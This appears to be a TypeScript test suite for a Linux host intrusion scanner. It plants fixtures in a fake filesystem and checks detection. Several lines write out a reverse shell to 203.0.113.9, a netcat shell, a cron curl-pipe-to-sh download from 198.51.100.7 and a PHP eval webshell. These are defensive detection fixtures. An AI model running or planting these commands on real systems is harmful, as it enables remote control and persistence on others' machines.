import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { after, describe, it } from 'node:test';
import { atLeast } from '../src/model/finding';
import { scan } from '../src/scan';
import { FakeRoot } from './helpers/fake-root';

// Content rules on an offline root: planted payloads are found with their text quoted, clean
// trees stay silent, and files that cannot or should not be read become gaps without blocking.

const FIXTURES = path.join(import.meta.dirname, 'fixtures/content');
const fixture = (dir: string, file: string) => fs.readFileSync(path.join(FIXTURES, dir, file));
const DEBIAN_ROOT = process.env.HOSTSWEEP_DEBIAN_ROOT ?? '/var/cache/hostsweep/debian-root';

function baseRoot(r: FakeRoot): FakeRoot {
  return r.write('/etc/os-release', 'ID=debian\n').write('/etc/passwd', 'root:x:0:0:root:/root:/bin/bash\n').mkdir('/usr/bin');
}

describe('content scan of an offline root', () => {
  const r = baseRoot(new FakeRoot('hostsweep-content-'));
  after(() => fs.rmSync(r.dir, { recursive: true, force: true }));
  // Where each kind of payload is found in real intrusions, and the text its finding must quote.
  const planted: [string, string, string, RegExp][] = [
    ['/tmp/.X25-unix/.rsync/config.json', 'miner-config', 'fires.json', /stratum\+tcp:\/\/pool\.example\.net:3333/],
    ['/var/tmp/.x/run', 'miner-pool-address', 'fires.sh', /pool\.supportxmr\.com:5555/],
    ['/root/.config/.s', 'reverse-shell', 'fires.sh', /bash -i >& \/dev\/tcp\/203\.0\.113\.9\/4444 0>&1/],
    ['/home/web/.cache/.n', 'reverse-shell', 'fires-nc.sh', /nc 203\.0\.113\.9 8081 -e \/bin\/sh/],
    ['/opt/tools/up.sh', 'download-execute', 'fires.sh', /curl -fsSL http:\/\/198\.51\.100\.7\/xm\.sh/],
    ['/usr/local/sbin/keys.sh', 'ssh-key-injection', 'fires.sh', /echo "ssh-rsa AAAAB3/],
    ['/var/www/html/uploads/logo.png.php', 'php-webshell', 'fires.php', /@eval\(\$_POST\['cmd'\]\)/],
    ['/srv/app/webapps/ROOT/x.jsp', 'jsp-webshell', 'fires.jsp', /Runtime\.getRuntime\(\)\.exec\(request\.getParameter/],
    ['/etc/cron.hourly/gcc.sh', 'family-xorddos', 'fires.sh', /cp \/lib\/libudev\.so \/lib\/libudev\.so\.6/],
    ['/dev/shm/.b', 'family-billgates', 'fires.bin', /DbSecuritySpt\\x00/],
    ['/etc/kinsing.sh', 'family-kinsing', 'fires.sh', /\/etc\/kinsing/],
    ['/tmp/.ICE-unix/k', 'family-tsunami', 'fires.bin', /KILLALL/],
  ];
  for (const [target, dir, file] of planted) r.write(target, fixture(dir, file));
  // Benign look-alikes in the same places stay silent.
  const benign = fs.readdirSync(FIXTURES).flatMap((d) =>
    fs
      .readdirSync(path.join(FIXTURES, d))
      .filter((f) => f.startsWith('benign'))
      .map((f) => [`/opt/benign/${d}/${f}`, d, f] as const),
  );
  for (const [target, d, f] of benign) r.write(target, fixture(d, f));
  // A huge file (sparse) and a FIFO nobody writes to: skipped with a gap, never read.
  r.mkdir('/tmp/big');
  fs.writeFileSync(r.p('/tmp/big/huge.bin'), '');
  fs.truncateSync(r.p('/tmp/big/huge.bin'), 200 * 1024 * 1024);
  execFileSync('/usr/bin/mkfifo', [r.p('/tmp/.pipe')]);

  it('finds every planted file and quotes the matching text, in one finding per file', async () => {
    const { result } = await scan({ root: r.dir, sampleMs: 0 });
    const content = result.findings.filter((f) => f.rule === 'files/content-match');
    for (const [target, id, , quote] of planted) {
      // Either the content finding itself, or the more specific rule's finding it was folded into.
      const onFile = result.findings.filter((x) => x.path === target && atLeast(x.severity, 'high'));
      const f = onFile.find((x) => x.evidence.some((e) => e.startsWith(`content rule: ${id} `)));
      assert.ok(f, `${target} (${id}) not found; got ${result.findings.map((x) => `${x.path} ${x.rule} ${x.title}`).join('; ')}`);
      assert.match(f.evidence.join('\n'), quote, `${target}: evidence does not quote the match`);
      assert.equal(
        onFile.filter((x) => x.rule === 'files/content-match' || x.evidence.some((e) => e.startsWith('content rule: '))).length,
        1,
        `${target}: the content match is a second alarm: ${onFile.map((x) => x.rule).join(', ')}`,
      );
    }
    assert.deepEqual(
      content.filter((f) => f.path?.startsWith('/opt/benign/')).map((f) => `${f.path} ${f.title}`),
      [],
    );
    const gaps = result.gaps.filter((g) => g.collector === 'contentScan');
    assert.ok(
      gaps.some((g) => g.path === '/tmp/big/huge.bin' && g.kind === 'skipped' && /larger than/.test(g.reason)),
      JSON.stringify(gaps),
    );
    assert.ok(
      gaps.some((g) => g.path === '/tmp/.pipe' && g.kind === 'skipped' && /FIFO/.test(g.reason)),
      JSON.stringify(gaps),
    );
    assert.equal(result.complete, false, 'skipped files make the scan incomplete');
  });

  it('quotes in Chinese output too, with the rule described in Chinese', async () => {
    const { result } = await scan({ root: r.dir, sampleMs: 0, lang: 'zh-CN' });
    const f = result.findings.find((x) => x.path === '/root/.config/.s' && x.rule === 'files/content-match');
    assert.ok(f);
    assert.match(f.detail, /^反向连接终端：.*文件中包含：.*\/dev\/tcp\/203\.0\.113\.9\/4444/);
  });

  it("evaluates the user's rules from --rules DIR", async () => {
    const rules = fs.mkdtempSync(path.join(r.dir, '..', 'hostsweep-rules-'));
    try {
      fs.writeFileSync(
        path.join(rules, 'site.yar'),
        'rule site_marker { meta: id = "site-marker" severity = "critical" strings: $a = "SITE-IOC-7f3a" condition: $a }\n',
      );
      r.write('/opt/app/conf.ini', 'key=1\nbeacon=SITE-IOC-7f3a\n');
      const { result } = await scan({ root: r.dir, sampleMs: 0, contentRuleDirs: [rules] });
      const f = result.findings.find((x) => x.path === '/opt/app/conf.ini');
      assert.equal(f?.severity, 'critical');
      assert.match(f?.evidence.join('\n') ?? '', /beacon=SITE-IOC-7f3a/);
      fs.writeFileSync(path.join(rules, 'broken.yar'), 'rule broken {\n  strings: $a = "x"\n  condition: $b\n}\n');
      await assert.rejects(scan({ root: r.dir, sampleMs: 0, contentRuleDirs: [rules] }), /broken\.yar:3:\d+: unknown pattern/);
    } finally {
      fs.rmSync(rules, { recursive: true, force: true });
      fs.rmSync(r.p('/opt/app'), { recursive: true, force: true });
    }
  });

  it('a clean Debian tree gets nothing at medium or above from content rules', async (t) => {
    if (!fs.existsSync(`${DEBIAN_ROOT}/etc/debian_version`)) {
      if (process.env.CI) assert.fail(`clean Debian tree missing at ${DEBIAN_ROOT}: .ci/run builds it`);
      t.skip(`no clean Debian tree at ${DEBIAN_ROOT}`);
      return;
    }
    const { result, snapshot } = await scan({ root: DEBIAN_ROOT, sampleMs: 0 });
    assert.ok((snapshot.facts.contentScan?.filesScanned ?? 0) > 0, 'the content scan read files');
    assert.deepEqual(
      result.findings.filter((f) => f.rule === 'files/content-match' && atLeast(f.severity, 'medium')).map((f) => f.title),
      [],
    );
  });
});

describe('content matches and the more specific rules: one file, one alarm', () => {
  const r = baseRoot(new FakeRoot('hostsweep-content-dup-'));
  after(() => fs.rmSync(r.dir, { recursive: true, force: true }));
  const shell = fixture('php-webshell', 'fires.php');
  r.write('/var/www/html/uploads/logo.png.php', shell)
    .write('/tmp/sess_x.php', shell)
    .write('/etc/cron.d/sync', '*/5 * * * * root curl -fsSL http://198.51.100.7/x.sh | sh\n')
    .write('/etc/profile.d/z.sh', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1 &\n')
    .write('/opt/tools/.s', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1 &\n');

  const onPath = (findings: { path?: string; rule: string; severity: string; evidence: string[] }[], p: string) =>
    findings.filter((f) => f.path === p && atLeast(f.severity as 'low', 'low'));

  it('a file a line or webshell rule already reports carries the quote in that finding only', async () => {
    const { result } = await scan({ root: r.dir, sampleMs: 0 });
    for (const [p, rule, quote] of [
      ['/var/www/html/uploads/logo.png.php', 'logs/webshell-content', /content rule: php-webshell .*\n.*@eval\(\$_POST\['cmd'\]\)/],
      [
        '/etc/cron.d/sync',
        'persistence/cron-download-exec',
        /content rule: download-execute .*\n.*curl -fsSL http:\/\/198\.51\.100\.7\/x\.sh/,
      ],
      ['/etc/profile.d/z.sh', 'hooks/shell-download-exec', /content rule: reverse-shell .*\n.*bash -i >& \/dev\/tcp\/203\.0\.113\.9\/4444/],
    ] as const) {
      const found = onPath(result.findings, p);
      assert.deepEqual(
        found.map((f) => f.rule),
        [rule],
        p,
      );
      assert.match(found[0].evidence.join('\n'), quote, p);
    }
  });

  it('a file no specific rule reports keeps its own content finding', async () => {
    const { result } = await scan({ root: r.dir, sampleMs: 0 });
    for (const [p, id] of [
      // A webshell outside any web root: the webshell rule does not look there.
      ['/tmp/sess_x.php', 'php-webshell'],
      ['/opt/tools/.s', 'reverse-shell'],
    ]) {
      const found = onPath(result.findings, p).filter((f) => f.evidence.some((e) => e.startsWith('content rule: ')));
      assert.deepEqual(
        found.map((f) => f.rule),
        ['files/content-match'],
        `${p}: ${result.findings.map((f) => `${f.rule} ${f.path}`).join('; ')}`,
      );
      assert.match(found[0].evidence.join('\n'), new RegExp(`content rule: ${id} `));
    }
  });
});

describe('server-side scripts named to pass an upload filter', () => {
  const r = baseRoot(new FakeRoot('hostsweep-content-upload-'));
  after(() => fs.rmSync(r.dir, { recursive: true, force: true }));
  const plain = '<?php echo "ok";\n';
  r.write('/var/www/html/wp-content/uploads/2026/11/shell.png.php', plain)
    .write('/var/lib/tomcat9/webapps/ROOT/upload/x.jpg.jsp', '<%= "ok" %>\n')
    .write('/var/www/html/images/a.phtml', plain)
    .write('/var/www/html/files/b.php5', plain)
    // Silent: the application's own scripts, an archive and the guard index.php in uploads.
    .write('/var/www/html/index.php', plain)
    .write('/var/www/html/themes/page.tpl.php', plain)
    .write('/var/www/html/wp-content/uploads/archive.tar.gz', Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0]))
    .write('/var/www/html/wp-content/uploads/index.php', '<?php // Silence is golden.\n');

  it('reports each by name, and nothing for the ordinary files beside them', async () => {
    const { result } = await scan({ root: r.dir, sampleMs: 0 });
    assert.deepEqual(
      result.findings
        .filter((f) => f.rule === 'files/web-upload-script')
        .map((f) => `${f.severity} ${f.path}`)
        .sort(),
      [
        'high /var/lib/tomcat9/webapps/ROOT/upload/x.jpg.jsp',
        'high /var/www/html/files/b.php5',
        'high /var/www/html/images/a.phtml',
        'high /var/www/html/wp-content/uploads/2026/11/shell.png.php',
      ],
    );
    const loudElsewhere = result.findings.filter(
      (f) => atLeast(f.severity, 'low') && f.rule !== 'files/web-upload-script' && f.path?.startsWith('/var/www/'),
    );
    assert.deepEqual(
      loudElsewhere.map((f) => `${f.rule} ${f.path}`),
      [],
    );
  });
});

describe('the content scan file set', () => {
  const r = new FakeRoot('hostsweep-content-set-').base();
  after(() => fs.rmSync(r.dir, { recursive: true, force: true }));
  const shell = fixture('reverse-shell', 'fires.sh');
  r.write(
    '/etc/passwd',
    'root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\ngit:x:998:998::/data/git:/usr/bin/git-shell\n',
  )
    // A service account's home outside /home, an nginx root outside the default web roots, a
    // hidden directory under /var/lib and an unowned program in a system directory.
    .write('/data/git/.cache/.u', shell)
    .write('/etc/nginx/sites-enabled/shop', 'server {\n  root /data/shop/public;\n}\n')
    .write('/data/shop/public/up/a.png.php', '<?php @eval($_POST["z"]);\n')
    .write('/var/lib/.x/run', shell, { mode: 0o755 })
    .write(
      '/usr/bin/dbus-helper',
      Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01\0'), Buffer.alloc(64), fixture('family-billgates', 'fires.bin')]),
      {
        mode: 0o755,
      },
    )
    // A 2 MiB backup in a home is data, not a payload: not read and not a gap. The same size with
    // an ELF start (a program dropped without its execute bit yet) is read.
    .write('/root/backup.tar', Buffer.concat([Buffer.alloc(2 * 1024 * 1024, 0x61), shell]))
    .write('/root/.x/kswapd', Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01\0'), Buffer.alloc(2 * 1024 * 1024), shell]))
    // A package's own file with the same text is left to the package integrity check.
    .write('/var/lib/dpkg/info/coreutils.list', '/.\n/bin\n/bin/ls\n/bin/cat\n/usr/bin/env\n/usr/bin/quoted\n')
    .write('/usr/bin/quoted', shell, { mode: 0o755 });

  it('reads account homes, configured web roots, /var/lib and unowned system programs, not package files or large data files', async () => {
    const { result, snapshot } = await scan({ root: r.dir, sampleMs: 0 });
    const withContent = (p: string) =>
      result.findings.filter((f) => f.path === p && f.evidence.some((e) => e.startsWith('content rule: '))).map((f) => f.rule);
    assert.equal(withContent('/data/git/.cache/.u').length, 1, 'home of a service account');
    assert.equal(withContent('/data/shop/public/up/a.png.php').length, 1, 'configured web root');
    assert.equal(withContent('/var/lib/.x/run').length, 1, 'hidden dir under /var/lib');
    assert.equal(withContent('/usr/bin/dbus-helper').length, 1, 'unowned program in /usr/bin');
    assert.deepEqual(withContent('/usr/bin/quoted'), [], 'package-owned file');
    assert.deepEqual(withContent('/root/backup.tar'), [], 'large data file');
    assert.equal(withContent('/root/.x/kswapd').length, 1, 'large program without execute bit');
    assert.equal(snapshot.facts.contentScan?.largeDataFiles, 1);
    assert.deepEqual(
      snapshot.gaps.filter((g) => g.collector === 'contentScan'),
      [],
      'nothing about the backup is a gap',
    );
    assert.ok(
      snapshot.facts.contentScan?.webScriptNames?.some(
        (w) => w.path === '/data/shop/public/up/a.png.php' && w.root === '/data/shop/public',
      ),
    );
  });
});
